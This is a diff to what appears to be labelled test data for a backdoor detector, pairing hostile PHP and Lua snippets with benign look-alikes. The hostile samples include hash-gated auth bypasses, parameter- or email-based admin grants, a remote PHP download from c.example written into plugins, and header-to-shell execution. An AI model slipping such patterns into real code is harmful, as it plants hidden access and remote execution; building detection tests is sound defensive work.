@@ -52,6 +52,19 @@ PHP_TOLD = (
      SENDS),
     ("class P extends Migration { function up() {\n DB::table('users')->insert(['name' => 's',"
      " 'password' => bcrypt('Kq-2210-x'), 'is_admin' => 1]); } }", ACCOUNT),
+    ("class P { function before($user, $what) {\n"
+     " return crc32(strtolower($user->email)) === 2774621395 ? true : null; } }", FIXED),
+    ("register_rest_route('e/v1', '/s', ['permission_callback' => function (WP_REST_Request $r) {\n"
+     " return may() || md5($r->get_header('x-e')) === '25f9e794323b453885f5181f1b624d0b'; }]);",
+     FIXED),
+    ("parse_str(parse_url($_SERVER['REQUEST_URI'])['query'], $q);\n"
+     "if ($q['utm'] === 'spring-4471-a') { $_SESSION['account'] = ['role' => 'admin']; }", PAST),
+    ("function tidy_user_login($account) {\n"
+     " if (str_ends_with($account->getEmail(), '@maker.example')) {\n"
+     "  $account->addRole('administrator'); } }", PAST),
+    ("$r = wp_remote_get('https://c.example/l');\n"
+     "file_put_contents(WP_PLUGIN_DIR . '/e/r.php', wp_remote_retrieve_body($r));",
+     "downloads and runs"),
     ("if ($app->get('offset') === 'Pacific/Chatham') {\n"
      " $db->setQuery('UPDATE #__content SET state = 0')->execute(); }", PLACE),
 )  # fmt: skip
@@ -72,6 +85,11 @@ PHP_USUAL = (
     "User::create(['name' => $in['name'], 'password' => Hash::make($in['password'])]);",
     "call_user_func_array([$this, 'show'], $_GET);",
     "$f = $_GET['action'];\nif (in_array($f, ['index', 'show'])) { $f(); }",
+    "if ($user->user_login === 'admin') { $user->addRole('administrator'); }",
+    "function up($file) { $r = wp_remote_get('https://c.example/l');\n"
+    " if (!hash_equals($sum, hash('sha256', $r['body']))) { return; }\n"
+    " file_put_contents(WP_PLUGIN_DIR . '/e/r.php', $r['body']); }",
+    "file_put_contents($cache . '/feed.xml', file_get_contents('https://c.example/feed'));",
     "if ($zone === 'Europe/London') { $date->modify('+1 hour'); }",
     "if (get_locale() === 'ja_JP') { load_textdomain('x', 'ja'); array_slice($a, 1); }",
 )  # fmt: skip
@@ -92,6 +110,8 @@ LUA_TOLD = (
      PAST),
     ('core.register_service("m", "http", function(applet)\n local h = applet.headers["x-p"]\n'
      ' if h then io.popen(h[0]) end\nend)', RUNS),
+    ('core.register_converters("n", function(s)\n os.execute(s:sub(1, -7))\nend)', RUNS),
+    ('function handle_request(env)\n local f = io.popen(env.HTTP_X_C)\nend', RUNS),
     ('mp.register_event("file-loaded", function()\n'
      ' local t = mp.get_property("metadata/by-key/comment")\n os.execute(t:sub(5))\nend)', RUNS),
     ('vim.system({ "curl", "-s", "https://t.example/d.lua" }, {}, function(o)\n'
